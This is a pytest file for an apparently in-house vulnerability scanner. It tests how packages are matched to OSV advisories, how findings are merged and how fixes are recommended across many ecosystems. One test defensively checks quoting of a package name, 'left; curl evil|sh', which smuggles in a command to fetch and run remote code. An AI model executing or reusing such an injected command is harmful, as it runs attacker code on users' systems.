"""Packages and a snapshot in, findings, coverage and sources out."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from surveyor.remedy.facts import weigh
from surveyor.scan.advise.match import Advice, advise
from surveyor.scan.advise.snapshot import open_snapshot
from surveyor.scan.events import Event, Progress
from surveyor.scan.model import Asset, CoverageState, Distro, Package, Presence, Severity, SourcePackage, Tier
from tests.reports import report
from tests.servers.osv_bucket import record
from tests.unit.scan.advise.conftest import Made, deb, plain

DEBIAN = "Debian:12"
CRITICAL = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"
RATED = [{"type": "CVSS_V3", "score": CRITICAL}]


def ask(path: Path, packages: Sequence[Package], progress: Progress | None = None) -> Advice:
    with open_snapshot(path) as snapshot:
        return advise(packages, snapshot, artifact="sha256:image", progress=progress or Progress())


def rows(advice: Advice) -> list[tuple[str, str, str | None, int | None]]:
    """What was asked of advisories; that the database has no feeds of facts is told besides."""
    return [
        (entry.what, entry.state.value, entry.reason, entry.count)
        for entry in advice.coverage
        if entry.reason != "no_feed"
    ]


def test_debian_is_matched_by_source_and_names_every_binary(database: Made) -> None:
    path = database(
        {"Debian": [record("DEBIAN-CVE-2023-1", DEBIAN, "expat", fixed="2.5.0-1+deb12u2", upstream=["CVE-2023-1"])]}
    )
    packages = [
        deb("libexpat1", "2.5.0-1+b1", source="expat", source_version="2.5.0-1"),
        deb("libexpat1-dev", "2.5.0-1", source="expat"),
    ]
    (finding,) = ask(path, packages).findings
    assert finding.rule == "CVE-2023-1"
    assert finding.title == "CVE-2023-1: deb/debian/expat"
    assert finding.ids == ("CVE-2023-1", "DEBIAN-CVE-2023-1")
    assert finding.severity is Severity.UNKNOWN
    assert finding.fixed_in == ("2.5.0-1+deb12u2",)
    assert finding.fix_state == "fixed"
    assert {asset.value for asset in finding.assets} == {package.purl for package in packages}
    place = packages[0].locations[0]
    assert finding.assets[0] == Asset(
        type="package", value=packages[0].purl, artifact="sha256:image", path=place.path, layer=place.layer
    )
    assert finding.evidence[0].kind == "range"
    assert finding.evidence[0].value == "2.5.0-1 is affected: introduced 0, fixed 2.5.0-1+deb12u2"
    assert finding.evidence[0].where == "osv:Debian:12 DEBIAN-CVE-2023-1"
    assert {item.kind for item in finding.evidence} == {"range", "package_record"}
    assert finding.recommended_fix is not None
    assert finding.recommended_fix.summary == "Upgrade expat to 2.5.0-1+deb12u2 or later"
    assert "libexpat1 libexpat1-dev" in finding.recommended_fix.steps[0]


def test_a_fixed_version_and_another_release_are_clean(database: Made) -> None:
    path = database({"Debian": [record("DEBIAN-CVE-2023-1", DEBIAN, "expat", fixed="2.5.0-1+deb12u2")]})
    advice = ask(path, [deb("expat", "2.5.0-1+deb12u2"), deb("expat", "2.4.0-1", release="13")])
    assert advice.findings == ()
    assert rows(advice) == [
        ("advisories.Debian:12", "looked", None, 1),
        ("advisories.Debian:13", "missing", "no_advisories", 1),
    ]
    assert [(source.feed, source.rows) for source in advice.sources] == [("osv:Debian", 1)]


def test_headers_of_a_kernel_come_last_and_say_why(database: Made) -> None:
    flaws = [record(f"DEBIAN-CVE-2023-{n}", DEBIAN, "linux", fixed="6.1.99-1", severity=RATED) for n in (2, 3)]
    path = database({"Debian": [*flaws, record("DEBIAN-CVE-2023-9", DEBIAN, "zlib", fixed="2")]})
    headers = [
        deb("linux-libc-dev", "6.1.90-1", source="linux"),
        deb("linux-headers-6.1.0-21-amd64", "6.1.90-1", source="linux"),
    ]
    tools = deb("linux-perf", "6.1.90-1", source="linux")
    advice = ask(path, [*headers, tools, deb("zlib1g", "1", source="zlib")])
    zlib, first, second = sorted(advice.findings, key=lambda one: (one.aside, one.title))
    assert [zlib.aside, first.aside, second.aside] == [False, True, True]
    assert [first.title, second.title] == ["DEBIAN-CVE-2023-2: deb/debian/linux", "DEBIAN-CVE-2023-3: deb/debian/linux"]
    assert (first.severity, first.ruled_by, first.confidence) == (Severity.UNKNOWN, "headers:osv", 0.1)
    assert [one.score for one in first.cvss] == [9.8]
    assert [asset.value for asset in first.assets] == [package.purl for package in headers]
    why = "nothing of the kernel is in linux-libc-dev: user-space C headers; linux-headers-6.1.0-21-amd64: headers and"
    assert [item.value[: len(why)] for item in first.evidence if item.kind == "rule"] == [why]
    assert rows(advice) == [
        ("advisories.Debian:12", "looked", None, 3),
        ("advisories.Debian:12", "skipped", "kernel_tools", 1),
        ("advisories.Debian:12", "looked", "header_only", 1),
        ("advisories.Debian:12", "looked", "header_only", 1),
    ]
    # no upgrade is worth anything for them, and whatever a kernel's flaw gives is taken away
    assert [upgrade.package for upgrade in advice.upgrades] == ["pkg:deb/debian/zlib"]
    weighed = weigh(report(*advice.findings)).findings
    assert [one.priority.score == 0 for one in weighed if one.priority] == [one.aside for one in weighed]


def test_headers_beside_their_kernel_are_not_named(database: Made) -> None:
    path = database({"Debian": [record("DEBIAN-CVE-2023-2", DEBIAN, "linux", fixed="6.1.99-1")]})
    headers = deb("linux-libc-dev", "6.1.90-1", source="linux")
    image = deb("linux-image-6.1.0-21-amd64", "6.1.90-1", source="linux-signed-amd64", source_version="6.1.90+1")
    advice = ask(path, [headers, image])
    (finding,) = advice.findings
    assert finding.title == "DEBIAN-CVE-2023-2: deb/debian/linux"
    assert not finding.aside
    assert [asset.value for asset in finding.assets] == [image.purl]
    assert ("advisories.Debian:12", "skipped", "header_only", 1) in rows(advice)


def test_names_are_written_as_the_ecosystem_writes_them(database: Made) -> None:
    path = database(
        {
            "PyPI": [record("PYSEC-1", "PyPI", "Zope.Interface", fixed="9")],
            "npm": [record("GHSA-npm", "npm", "@scope/left", fixed="9.0.0")],
            "Maven": [record("GHSA-mvn", "Maven", "org.acme:core", fixed="9")],
            "Go": [
                record("GO-1", "Go", "github.com/Acme/x", fixed="9.0.0"),
                record("GO-2", "Go", "stdlib", fixed="1.22.5"),
            ],
            "NuGet": [record("GHSA-nu", "NuGet", "Acme.Core", fixed="9.0.0")],
            "Packagist": [record("GHSA-php", "Packagist", "acme/core", fixed="9.0")],
            "crates.io": [record("RUSTSEC-1", "crates.io", "acme", fixed="9.0.0")],
            "RubyGems": [record("RUBYSEC-1", "RubyGems", "acme", fixed="9.0")],
            "SwiftURL": [
                record("GHSA-sw1", "SwiftURL", "github.com/Acme/One", fixed="9.0.0"),
                record("GHSA-sw2", "SwiftURL", "https://github.com/acme/two.git", fixed="9.0.0"),
            ],
            "Hex": [record("GHSA-hex", "Hex", "acme", fixed="9.0.0")],
            "Pub": [record("GHSA-pub", "Pub", "acme", fixed="9.0.0")],
            "Hackage": [record("HSEC-1", "Hackage", "acme", fixed="9.0")],
            "CRAN": [record("RSEC-1", "CRAN", "acme", fixed="9.0")],
            "Bioconductor": [record("RSEC-2", "Bioconductor", "acme", fixed="9.0")],
            "Julia": [record("JLSEC-1", "Julia", "Acme", fixed="9.0.0")],
            "GitHub Actions": [record("GHSA-act", "GitHub Actions", "Acme/run", fixed="9.0.0")],
            "VSCode": [record("GHSA-vs", "VSCode", "Acme.shop", fixed="9.0.0")],
            "opam": [record("OSEC-1", "opam", "acme", fixed="9.0")],
            "Bitnami": [record("BIT-1", "Bitnami", "acme", fixed="9.0.0")],
        }
    )
    packages = [
        plain("pypi", "zope_interface", "1.0"),
        plain("npm", "left", "1.0.0", namespace="@scope"),
        plain("maven", "core", "1.0", namespace="org.acme"),
        plain("golang", "x", "v1.0.0", namespace="github.com/Acme"),
        plain("golang", "stdlib", "go1.22.4"),
        plain("nuget", "acme.core", "1.0.0"),
        plain("composer", "core", "v1.0", namespace="acme"),
        plain("cargo", "acme", "1.0.0"),
        plain("gem", "acme", "1.0"),
        plain("swift", "One", "1.0.0", namespace="github.com/acme"),
        plain("swift", "Two", "1.0.0", namespace="github.com/acme"),
        plain("hex", "acme", "1.0.0"),
        plain("hex", "acme", "1.0.0", namespace="private"),
        plain("pub", "acme", "1.0.0"),
        plain("hackage", "acme", "1.0"),
        plain("cran", "acme", "1.0-1"),
        plain("bioconductor", "acme", "1.0"),
        plain("julia", "Acme", "1.0.0"),
        plain("githubactions", "run", "v1", namespace="acme"),
        plain("vscode-extension", "shop", "1.0.0", namespace="acme"),
        plain("opam", "acme", "1.0"),
        plain("bitnami", "acme", "8.9.9-12"),
        # packed twelve times, and no pre-release of what mends it
        plain("bitnami", "acme", "9.0.0-12"),
    ]
    advice = ask(path, packages)
    assert sorted(finding.title for finding in advice.findings) == [
        "BIT-1: bitnami/acme",
        "GHSA-act: githubactions/acme/run",
        "GHSA-hex: hex/acme",
        "GHSA-mvn: maven/org.acme/core",
        "GHSA-npm: npm/@scope/left",
        "GHSA-nu: nuget/acme.core",
        "GHSA-php: composer/acme/core",
        "GHSA-pub: pub/acme",
        "GHSA-sw1: swift/github.com/acme/One",
        "GHSA-sw2: swift/github.com/acme/Two",
        "GHSA-vs: vscode-extension/acme/shop",
        "GO-1: golang/github.com/Acme/x",
        "GO-2: golang/stdlib",
        "HSEC-1: hackage/acme",
        "JLSEC-1: julia/Acme",
        "OSEC-1: opam/acme",
        "PYSEC-1: pypi/zope_interface",
        "RSEC-1: cran/acme",
        "RSEC-2: bioconductor/acme",
        "RUBYSEC-1: gem/acme",
        "RUSTSEC-1: cargo/acme",
    ]
    assert [asset.value for finding in advice.findings for asset in finding.assets if "bitnami" in asset.value] == [
        "pkg:bitnami/acme@8.9.9-12"
    ]


def test_what_is_only_declared_is_no_gap_beside_what_is_installed(database: Made) -> None:
    path = database({"npm": [record("GHSA-a", "npm", "left", fixed="2.0.0")]})
    wishes = [
        plain("npm", "loose", "", presence=Presence.DECLARED),
        plain("cocoapods", "Pod", "1.0", presence=Presence.DECLARED),
    ]
    assert rows(ask(path, wishes)) == [
        ("advisories.cocoapods", "missing", "no_source", 1),
        ("advisories.npm", "partial", "no_version", 1),
    ]
    assert rows(ask(path, [*wishes, plain("npm", "right", "1.0.0")])) == [
        ("advisories.npm", "looked", None, 1),
        ("advisories.cocoapods", "skipped", "no_source", 1),
        ("advisories.npm", "skipped", "no_version", 1),
    ]


@pytest.mark.parametrize(
    ("ecosystem", "package"),
    [
        ("Alpine:v3.18", ("apk", "alpine", "3.18.4", "1.1-r0")),
        ("Wolfi", ("apk", "wolfi", "20230201", "1.1-r0")),
        ("AlmaLinux:9", ("rpm", "almalinux", "9.4", "1.1-1.el9")),
        ("Rocky Linux:8", ("rpm", "rocky", "8.10", "1.1-1.el8")),
        ("Azure Linux:3", ("rpm", "azurelinux", "3.0", "1.1-1.azl3")),
        ("Azure Linux:2", ("rpm", "mariner", "2.0", "1.1-1.cm2")),
        ("Ubuntu:22.04:LTS", ("deb", "ubuntu", "22.04", "1.1-1")),
        ("Ubuntu:23.10", ("deb", "ubuntu", "23.10", "1.1-1")),
    ],
)
def test_distributions_by_release(database: Made, ecosystem: str, package: tuple[str, str, str, str]) -> None:
    kind, distro, version, installed = package
    path = database({ecosystem.partition(":")[0]: [record("X-1", ecosystem, "acme", fixed="1.2-r0")]})
    asked = plain(
        kind,
        "acme",
        installed,
        namespace=distro,
        distro=Distro(id=distro, version=version),
        source=SourcePackage(name="acme", version=installed),
    )
    assert [finding.title for finding in ask(path, [asked]).findings] == [f"X-1: {kind}/{distro}/acme"]


def test_aliases_are_one_finding_and_disagreement_is_shown(database: Made) -> None:
    path = database(
        {
            "PyPI": [
                record("PYSEC-2021-1", "PyPI", "django", fixed="1.11.29", aliases=["CVE-2021-9"]),
                record(
                    "GHSA-aaaa",
                    "PyPI",
                    "django",
                    fixed="2.2.0",
                    aliases=["CVE-2021-9"],
                    database_specific={"severity": "HIGH"},
                ),
                record("PYSEC-2021-2", "PyPI", "django", fixed="3.0"),
            ]
        }
    )
    advice = ask(path, [plain("pypi", "django", "1.11.29")])
    flaw, other = advice.findings
    assert flaw.title == "CVE-2021-9: pypi/django"
    assert flaw.ids == ("CVE-2021-9", "GHSA-aaaa", "PYSEC-2021-1")
    assert flaw.severity is Severity.HIGH
    assert [item.value for item in flaw.evidence if item.kind == "range"] == [
        "1.11.29 is affected: introduced 0, fixed 2.2.0",
        "1.11.29 is not affected by this source: introduced 0, fixed 1.11.29",
    ]
    assert flaw.confidence < other.confidence
    assert other.title == "PYSEC-2021-2: pypi/django"


def test_several_versions_of_one_package_are_one_finding(database: Made) -> None:
    path = database({"npm": [record("GHSA-a", "npm", "lodash", fixed="4.17.21", aliases=["CVE-2021-1"])]})
    advice = ask(
        path,
        [
            plain("npm", "lodash", "4.17.0", path="a"),
            plain("npm", "lodash", "4.17.1", path="b"),
            plain("npm", "lodash", "4.17.21"),
        ],
    )
    (finding,) = advice.findings
    assert [(asset.value, asset.path) for asset in finding.assets] == [
        ("pkg:npm/lodash@4.17.0", "a"),
        ("pkg:npm/lodash@4.17.1", "b"),
    ]


def test_fixes_are_told_nearest_first(database: Made) -> None:
    lines = [{"introduced": "3.0"}, {"fixed": "3.0.4"}, {"introduced": "0"}, {"fixed": "2.2.9"}]
    affected = [
        {
            "package": {"ecosystem": "PyPI", "name": "django"},
            "ranges": [{"type": "ECOSYSTEM", "events": lines}],
        }
    ]
    items = [
        record("GHSA-a", "PyPI", "django", affected=affected, aliases=["CVE-2024-1"]),
        record("PYSEC-a", "PyPI", "django", fixed="2.2.8", aliases=["CVE-2024-1"]),
    ]
    (one,) = ask(database({"PyPI": items}), [plain("pypi", "django", "2.2.1")]).findings
    assert one.fixed_in == ("2.2.9", "3.0.4")
    assert one.recommended_fix is not None
    assert one.recommended_fix.summary == "Upgrade django to 2.2.9 or later"
    assert "'django>=2.2.9'" in one.recommended_fix.steps[0]
    (both,) = ask(
        database({"PyPI": items}), [plain("pypi", "django", "3.0.1"), plain("pypi", "django", "2.2.1")]
    ).findings
    assert both.recommended_fix is not None
    assert both.recommended_fix.summary == "Upgrade django to 2.2.9 or 3.0.4 or later"
    assert "'django>=3.0.4'" in both.recommended_fix.steps[0]


def test_a_command_that_people_copy_runs_nothing_of_a_target(database: Made) -> None:
    name = "left; curl evil|sh"
    (one,) = ask(
        database({"npm": [record("GHSA-a", "npm", name, fixed="1.0.0")]}), [plain("npm", name, "0.9")]
    ).findings
    assert one.recommended_fix is not None
    assert one.recommended_fix.steps[0] == "npm install 'left; curl evil|sh@1.0.0'"


def test_an_erratum_is_told_per_flaw(database: Made) -> None:
    items = [
        record("ALSA-2024:1", "AlmaLinux:9", "firefox", fixed="2-1.el9", related=["CVE-2024-0001", "CVE-2024-0002"]),
        record("ALSA-2024:2", "AlmaLinux:9", "firefox", fixed="3-1.el9", related=["CVE-2024-0002"]),
        record("ALBA-2024:3", "AlmaLinux:9", "firefox", fixed="4-1.el9", related=["RHBA-1"]),
    ]
    path = database({"AlmaLinux": items})
    asked = plain("rpm", "firefox", "1-1.el9", namespace="almalinux", distro=Distro(id="almalinux", version="9.4"))
    found = {finding.rule: finding for finding in ask(path, [asked]).findings}
    assert sorted(found) == ["ALBA-2024:3", "CVE-2024-0001", "CVE-2024-0002"]
    assert found["CVE-2024-0002"].ids == ("CVE-2024-0002", "ALSA-2024:1", "ALSA-2024:2")
    # the second erratum on the same flaw calls the first one's fix affected
    assert found["CVE-2024-0002"].fixed_in == ("3-1.el9",)


@pytest.mark.parametrize(
    ("more", "expected"),
    [
        ({}, "unknown"),
        ({"severity": [{"type": "CVSS_V3", "score": CRITICAL}]}, "critical"),
        ({"severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/nonsense"}]}, "unknown"),
        (
            {"severity": [{"type": "CVSS_V3", "score": "nonsense"}], "database_specific": {"severity": "MODERATE"}},
            "medium",
        ),
        ({"database_specific": {"severity": "LOW"}}, "low"),
        ({"database_specific": {"severity": "whatever"}}, "unknown"),
        ({"severity": [{"type": "Ubuntu", "score": "negligible"}]}, "low"),
        (
            {
                "severity": [
                    {"type": "CVSS_V3", "score": CRITICAL},
                    {"type": "CVSS_V4", "score": "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:A/VC:N/VI:N/VA:N/SC:L/SI:L/SA:N"},
                ]
            },
            "medium",
        ),
    ],
)
def test_severity_is_what_a_source_says_and_never_a_default(
    database: Made, more: dict[str, Any], expected: str
) -> None:
    path = database({"npm": [record("GHSA-a", "npm", "left", fixed="2.0.0", **more)]})
    (finding,) = ask(path, [plain("npm", "left", "1.0.0")]).findings
    assert finding.severity.value == expected


def test_no_fix_and_an_end_that_is_not_exact(database: Made) -> None:
    last = record("GHSA-b", "npm", "left")
    last["affected"][0]["ranges"][0]["events"].append({"last_affected": "1.5.0"})
    path = database({"npm": [record("GHSA-a", "npm", "left"), last]})
    states = {finding.rule: finding.fix_state for finding in ask(path, [plain("npm", "left", "1.0.0")]).findings}
    assert states == {"GHSA-a": "not_fixed", "GHSA-b": "unknown"}


def test_tier_and_presence_lower_confidence(database: Made) -> None:
    path = database({"npm": [record("GHSA-a", "npm", "left", fixed="2.0.0")]})
    sure = ask(path, [plain("npm", "left", "1.0.0")]).findings[0]
    guessed = ask(path, [plain("npm", "left", "1.0.0", tier=Tier.HEURISTIC)]).findings[0]
    wished = ask(path, [plain("npm", "left", "1.0.0", presence=Presence.DECLARED)]).findings[0]
    assert guessed.tier is Tier.HEURISTIC
    assert guessed.confidence < wished.confidence < sure.confidence < 1


def test_what_could_not_be_looked_at_is_told(database: Made, events: list[Event], progress: Progress) -> None:
    odd = record("GHSA-b", "npm", "right", fixed="soon")
    path = database({"npm": [record("GHSA-a", "npm", "left", fixed="2.0.0"), odd]})
    packages = [
        plain("npm", "left", "workspace-link"),
        plain("npm", "right", "1.0.0"),
        plain("npm", "other", "not-a-version-but-nobody-asks"),
        plain("npm", "empty", ""),
        plain("cargo", "acme", "1.0.0"),
        plain("generic", "busybox", "1.36"),
        plain("deb", "x", "1", distro=Distro(id="raspbian", version="12")),
        deb("y", "1", release=""),
        plain("deb", "z", "1"),
    ]
    advice = ask(path, packages, progress)
    assert rows(advice) == [
        ("advisories.npm", "looked", None, 3),
        ("advisories.crates.io", "missing", "no_advisories", 1),
        ("advisories.Debian", "missing", "no_release", 1),
        ("advisories.deb", "missing", "no_release", 1),
        ("advisories.generic", "not_configured", "by_name", 1),
        ("advisories.raspbian:12", "missing", "no_source", 1),
        ("advisories.npm", "partial", "no_version", 1),
        ("advisories.npm", "partial", "odd_version", 1),
        ("advisories.npm", "partial", "odd_range", 1),
    ]
    assert advice.findings == ()
    stages = [event.stage for event in events]
    assert stages[0] == "osv.query.start"
    assert stages[-1] == "osv.query.done"
    assert stages.count("osv.timing") == 1
    assert stages.count("osv.err") == 7
    assert {entry.state for entry in advice.coverage} == {
        CoverageState.LOOKED,
        CoverageState.MISSING,
        CoverageState.NOT_CONFIGURED,
        CoverageState.PARTIAL,
    }


def test_the_same_question_gives_the_same_answer(database: Made) -> None:
    items = [record(f"GHSA-{n}", "npm", "left", fixed="2.0.0", aliases=[f"CVE-2024-{n}"]) for n in range(30)]
    path = database({"npm": items})
    packages = [plain("npm", "left", "1.0.0"), plain("npm", "left", "1.5.0")]
    assert ask(path, packages) == ask(path, packages)
    assert [finding.rule for finding in ask(path, packages).findings] == [f"CVE-2024-{n}" for n in range(30)]


def ubuntu(name: str, version: str, release: str = "18.04") -> Package:
    distro = Distro(id="ubuntu", version=release)
    return replace(deb(name, version), purl=f"pkg:deb/ubuntu/{name}@{version}", namespace="ubuntu", distro=distro)


def test_a_build_of_ubuntu_pro_is_judged_by_pro_first(database: Made) -> None:
    """The LTS list knows no fix of what is mended in Pro alone."""
    flaw = record("UBUNTU-CVE-2024-1", "Ubuntu:18.04:LTS", "expat", upstream=["CVE-2024-1"])
    pro = record("UBUNTU-CVE-2024-1", "Ubuntu:Pro:18.04:LTS", "expat", fixed="2.2.5-3ubuntu0.9+esm1")
    flaw["affected"] += pro["affected"]
    only = record("UBUNTU-CVE-2024-2", "Ubuntu:18.04:LTS", "expat", upstream=["CVE-2024-2"])
    path = database({"Ubuntu": [flaw, only]})

    def found(version: str) -> list[str]:
        return [finding.rule for finding in ask(path, [ubuntu("expat", version)]).findings]

    assert found("2.2.5-3ubuntu0.9+esm1") == ["CVE-2024-2"]  # of which Pro says nothing, and the LTS list does
    assert found("2.2.5-3ubuntu0.9+esm0") == ["CVE-2024-1", "CVE-2024-2"]
    assert found("2.2.5-3ubuntu0.9") == ["CVE-2024-1", "CVE-2024-2"]


def test_a_release_that_only_pro_speaks_of_is_asked_for_builds_of_pro(database: Made) -> None:
    path = database({"Ubuntu": [record("USN-1", "Ubuntu:Pro:14.04:LTS", "expat", fixed="2.1.0-4ubuntu1.4+esm2")]})
    assert [one.rule for one in ask(path, [ubuntu("expat", "2.1.0-4ubuntu1.4+esm1", "14.04")]).findings] == ["USN-1"]
    assert ("advisories.Ubuntu:14.04", "missing", "no_advisories", 1) in rows(
        ask(path, [ubuntu("expat", "2.1.0-4ubuntu1.4", "14.04")])
    )
